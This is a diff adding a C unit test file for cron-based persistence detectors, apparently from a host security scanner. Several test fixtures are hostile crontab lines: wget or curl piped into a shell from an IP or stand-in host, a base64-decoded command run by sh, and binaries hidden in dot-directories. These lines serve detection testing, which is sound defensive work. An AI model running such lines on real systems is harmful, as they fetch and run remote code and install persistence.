@@ -1,0 +1,248 @@
+/*
+ * test_det_per.c - the cron detectors, facts in, findings out:
+ *   RM-PER-001 a job that fetches or decodes and runs code, or runs a
+ *              program from a writable or hidden directory
+ *   RM-PER-002 a foreign, writable or wrongly owned cron file
+ * Jobs are made with the real parser (collect/cron_parse.c) from lines.
+ */
+#include "collect/cron_parse.h"
+#include "testlib.h"
+
+#define MAXF 8
+#define MAXJ 16
+
+struct fx {
+	struct snapshot *s;
+	struct cron_file files[MAXF];
+	struct cron_job jobs[MAXJ];
+};
+
+static struct cron_file *
+file(struct fx *x, const char *path, enum cron_file_kind kind,
+     const char *user)
+{
+	struct cron_file *f = &x->files[x->s->ncron_files++];
+
+	memset(f, 0, sizeof(*f));
+	f->path = path;
+	f->kind = kind;
+	f->user = user;
+	f->mode = 0100644;
+	f->magic = CRONM_TEXT;
+	x->s->cron_files = x->files;
+	return f;
+}
+
+/* A job from a crontab line of f (in f's format). */
+static void
+job(struct fx *x, struct cron_file *f, const char *text)
+{
+	struct cron_job *j = &x->jobs[x->s->ncron_jobs++];
+	struct cron_line l;
+	struct cron_cmd c;
+
+	cronparse_line(text, strlen(text), f->kind == CRONF_SYSTEM ?
+	    CRON_SYSTEM : CRON_USER, &l);
+	assert_int_equal(l.kind, CRONL_JOB);
+	cronparse_command(l.cmd, l.cmdlen, &c);
+	memset(j, 0, sizeof(*j));
+	j->file = f;
+	j->line = (uint32_t)x->s->ncron_jobs;
+	j->interval = l.interval;
+	j->schedule = arena_strndup(&x->s->arena, l.sched, l.schedlen);
+	if (l.user)
+		j->user = arena_strndup(&x->s->arena, l.user, l.userlen);
+	j->command = arena_strndup(&x->s->arena, l.cmd, l.cmdlen);
+	j->flags = c.flags;
+	j->path = c.path[0] ? arena_strdup(&x->s->arena, c.path) : NULL;
+	j->url = c.url[0] ? arena_strdup(&x->s->arena, c.url) : NULL;
+	f->njobs++;
+	x->s->cron_jobs = x->jobs;
+}
+
+static struct fx *
+fx_new(void)
+{
+	struct fx *x = xmalloc(sizeof(*x));
+
+	memset(x, 0, sizeof(*x));
+	x->s = tl_snap_new();
+	return x;
+}
+
+static void
+fx_free(struct fx *x)
+{
+	x->s->cron_files = NULL;
+	x->s->cron_jobs = NULL;
+	x->s->ncron_files = x->s->ncron_jobs = 0;
+	tl_snap_free(x->s);
+	free(x);
+}
+
+/* The one RM-PER-001 finding for a user crontab line, or none. */
+static void
+expect_line(const char *line, int want)  /* want: severity, or -1: none */
+{
+	struct fx *x = fx_new();
+	struct cron_file *f = file(x, "/var/spool/cron/crontabs/root",
+	    CRONF_USER, "root");
+	struct findings fs;
+
+	job(x, f, line);
+	tl_run_one(x->s, "RM-PER-001", &fs);
+	if (want < 0) {
+		if (fs.n != 0)
+			fail_msg("'%s': %s finding, expected none", line,
+			    severity_name(fs.v[0]->severity));
+	} else {
+		if (fs.n != 1)
+			fail_msg("'%s': %zu findings, expected one", line, fs.n);
+		if ((int)fs.v[0]->severity != want)
+			fail_msg("'%s': %s, expected %s", line,
+			    severity_name(fs.v[0]->severity),
+			    severity_name((enum severity)want));
+		assert_string_equal(fs.v[0]->file_path,
+		    "/var/spool/cron/crontabs/root");
+		assert_string_equal(tl_ev_str(fs.v[0], "user"), "root");
+	}
+	findings_free(&fs);
+	fx_free(x);
+}
+
+static void
+test_cron_jobs(void **state)
+{
+	(void)state;
+	/* droppers */
+	expect_line("* * * * * wget -q -O - http://195.3.146.118/spr.sh | sh > "
+	    "/dev/null 2>&1", SEV_CRITICAL);
+	expect_line("@reboot curl -fsSL http://x.example/i | bash", SEV_CRITICAL);
+	expect_line("0 3 * * * curl -fsSL http://x.example/i | bash", SEV_HIGH);
+	expect_line("*/3 * * * * echo Y3VybA== | base64 -d | sh", SEV_CRITICAL);
+	expect_line("0 * * * * cd /tmp; wget http://1.2.3.4/x; chmod +x x; ./x",
+	    SEV_HIGH);
+	expect_line("0 4 * * * /var/tmp/.x/upd", SEV_HIGH);
+	expect_line("* * * * * /usr/bin/.sshd", SEV_HIGH);
+	expect_line("0 4 * * 0 /usr/lib/.cache/upd", SEV_MEDIUM);
+	expect_line("5 6 * * 0 /root/.configrc/a/upd>/dev/null 2>&1", SEV_INFO);
+	/* administrators */
+	expect_line("38 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home "
+	    "\"/root/.acme.sh\" > /dev/null", SEV_INFO);
+	expect_line("* * * * * curl -fsS -m 10 -o /dev/null https://hc-ping.com/x",
+	    -1);
+	expect_line("0 4 * * * find /tmp -type f -mtime +7 -delete", -1);
+	expect_line("*/5 * * * * /usr/bin/php /var/www/cron.php > /tmp/c.log",
+	    -1);
+	expect_line("0 2 * * * /usr/local/bin/backup.sh", -1);
+}
+
+/* The evidence says what, where, when, who. */
+static void
+test_cron_evidence(void **state)
+{
+	struct fx *x = fx_new();
+	struct cron_file *f = file(x, "/etc/cron.d/collect", CRONF_SYSTEM, NULL);
+	struct findings fs;
+
+	(void)state;
+	f->uid = 0;
+	f->mode = 0100600;
+	job(x, f, "*/10 * * * * root /var/tmp/crond");
+	tl_run_one(x->s, "RM-PER-001", &fs);
+	assert_int_equal(fs.n, 1);
+	tl_assert_contains(fs.v[0]->message, "/etc/cron.d/collect:1");
+	assert_string_equal(tl_ev_str(fs.v[0], "path"), "/var/tmp/crond");
+	assert_string_equal(tl_ev_str(fs.v[0], "runs"), "every 10 minutes");
+	assert_string_equal(tl_ev_str(fs.v[0], "schedule"), "*/10 * * * *");
+	assert_string_equal(tl_ev_str(fs.v[0], "user"), "root");
+	assert_string_equal(tl_ev_str(fs.v[0], "file_mode"), "0600");
+	assert_string_equal(tl_ev_str(fs.v[0], "file_kind"), "system crontab");
+	assert_true(tl_ev_has(fs.v[0], "does", "use a world-writable directory"));
+	assert_string_equal(fs.v[0]->rule->category, "persistence");
+	findings_free(&fs);
+	fx_free(x);
+}
+
+static size_t
+file_findings(struct fx *x, enum severity *sev)
+{
+	struct findings fs;
+	size_t n;
+
+	tl_run_one(x->s, "RM-PER-002", &fs);
+	n = fs.n;
+	if (n)
+		*sev = fs.v[0]->severity;
+	findings_free(&fs);
+	return n;
+}
+
+static void
+test_cron_files(void **state)
+{
+	struct fx *x;
+	struct cron_file *f;
+	enum severity sev = SEV_INFO;
+
+	(void)state;
+	/* a Redis dump in the spool, with the job cron still runs */
+	x = fx_new();
+	f = file(x, "/var/spool/cron/root", CRONF_USER, "root");
+	f->magic = CRONM_REDIS;
+	job(x, f, "*/1 * * * * curl -fsSL http://x/b.sh | sh");
+	assert_int_equal(file_findings(x, &sev), 1);
+	assert_int_equal(sev, SEV_CRITICAL);
+	fx_free(x);
+	/* an executable in cron.d; the same in cron.daily is medium */
+	x = fx_new();
+	file(x, "/etc/cron.d/x", CRONF_SYSTEM, NULL)->magic = CRONM_ELF;
+	assert_int_equal(file_findings(x, &sev), 1);
+	assert_int_equal(sev, SEV_HIGH);
+	fx_free(x);
+	x = fx_new();
+	file(x, "/etc/cron.daily/x", CRONF_SCRIPT, NULL)->magic = CRONM_ELF;
+	assert_int_equal(file_findings(x, &sev), 1);
+	assert_int_equal(sev, SEV_MEDIUM);
+	fx_free(x);
+	/* world-writable */
+	x = fx_new();
+	file(x, "/etc/cron.d/w", CRONF_SYSTEM, NULL)->mode = 0100666;
+	assert_int_equal(file_findings(x, &sev), 1);
+	assert_int_equal(sev, SEV_HIGH);
+	fx_free(x);
+	/* a system file owned by a user */
+	x = fx_new();
+	file(x, "/etc/cron.d/u", CRONF_SYSTEM, NULL)->uid = 1000;
+	assert_int_equal(file_findings(x, &sev), 1);
+	assert_int_equal(sev, SEV_MEDIUM);
+	fx_free(x);
+	/* the same in an image unpacked by a user: owners say nothing */
+	x = fx_new();
+	f = file(x, "/etc/cron.d/u", CRONF_SYSTEM, NULL);
+	f->uid = 1000;
+	f->owners_unknown = true;
+	assert_int_equal(file_findings(x, &sev), 0);
+	fx_free(x);
+	/* a text crontab of root, 0600: nothing; an unreadable one: nothing */
+	x = fx_new();
+	file(x, "/var/spool/cron/crontabs/root", CRONF_USER, "root")->mode =
+	    0100600;
+	f = file(x, "/etc/cron.d/unread", CRONF_SYSTEM, NULL);
+	f->read_err = RM_EPERM;
+	f->magic = CRONM_REDIS;  /* never looked at: read_err wins */
+	assert_int_equal(file_findings(x, &sev), 0);
+	fx_free(x);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_cron_jobs),
+		cmocka_unit_test(test_cron_evidence),
+		cmocka_unit_test(test_cron_files),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
